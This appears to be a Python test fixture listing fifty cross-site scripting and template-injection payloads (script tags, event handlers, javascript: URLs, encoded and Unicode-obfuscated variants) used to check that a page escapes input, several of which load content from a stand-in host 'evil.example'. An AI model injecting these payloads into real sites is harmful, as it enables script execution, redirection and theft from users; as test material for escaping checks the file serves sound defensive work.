"""Fifty texts that a page would run, load or fall apart over if it wrote them out as they are.

Each is short, so that it fits into a name, and leaves a trace: a call of `alert`, an attribute that
handles an event, an address of the stranger's, or something called `xss`.
"""

ALERT = "alert(1)"
STRANGER = "//evil.example/x"
PRODUCT = "60481729"  # What a template would make of 7777 * 7777.

ELEMENTS = (
    f"<script>{ALERT}</script>",
    f"<ScRiPt/x>{ALERT}</sCrIpT >",
    f"<script src={STRANGER}></script>",
    f"<img src=x onerror={ALERT}>",
    f"<img/src='x'/onerror={ALERT}>",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x>",
    f"<svg><style><img src=x onerror={ALERT}>",
    f"<math><mtext><img src=x onerror={ALERT}>",
    f"<math><mglyph><style><!--</style><img src onerror={ALERT}>",
    f"<iframe srcdoc='<script>{ALERT}</script>'>",
    f"<object data={STRANGER}></object>",
    f"<embed src={STRANGER}>",
    f"<base href={STRANGER}>",
    f"<meta http-equiv=refresh content=0;url={STRANGER}>",
    f"<link rel=stylesheet href={STRANGER}>",
    f"<details open ontoggle={ALERT}>xss",
    f"<video><source onerror={ALERT}>",
    f"<marquee onstart={ALERT}>xss</marquee>",
    f"<form id=xss action={STRANGER}><input name=xss>",
    f"<x-ss id=xss tabindex=1 onfocus={ALERT}>",
)
ENDINGS = (
    f'"><img src=x onerror={ALERT}>',
    f"'><img src=x onerror={ALERT}>",
    f"</title><script>{ALERT}</script>",
    f"</textarea><img src=x onerror={ALERT}>",
    f"</script><script>{ALERT}</script>",
    f"--><img src=x onerror={ALERT}>",
    f"]]><img src=x onerror={ALERT}>",
    f"</style><img src=x onerror={ALERT}>",
    f'" autofocus onfocus={ALERT} x="',
    f"' onmouseover='{ALERT}",
    f'"}}</script><script>{ALERT}</script>',
    f"\\u003cimg src=x onerror={ALERT}\\u003e",
)
ADDRESSES = (
    f"javascript:{ALERT}",
    f"java\tscript:{ALERT}",
    f"<a href=' javascript:{ALERT}'>xss</a>",
    f"<a href='&#106;avascript:{ALERT}'>xss</a>",
    f"data:text/html,<script>{ALERT}</script>",
)
TEMPLATES = (
    "{{7777*7777}}",
    "{% debug %}{{ 7777*7777 }}",
    "${7777*7777}#{7777*7777}<%= 7777*7777 %>",
)
STYLES = (
    f"<style>@import '{STRANGER}';</style>",
    f"<p style='background:url({STRANGER})' class=xss>",
)
ENCODINGS = (
    f"&lt;img src=x onerror={ALERT}&gt;",
    f"%3Cimg src=x onerror={ALERT}%3E",
    f"＜script＞{ALERT}＜/script＞",
    f"\u202e<img src=x onerror={ALERT}>\u2066",
)
HALVES = (
    f"<img src=x onerror={ALERT} ",
    "<!--",
)
PAYLOADS = ELEMENTS + ENDINGS + ADDRESSES + TEMPLATES + STYLES + ENCODINGS + HALVES
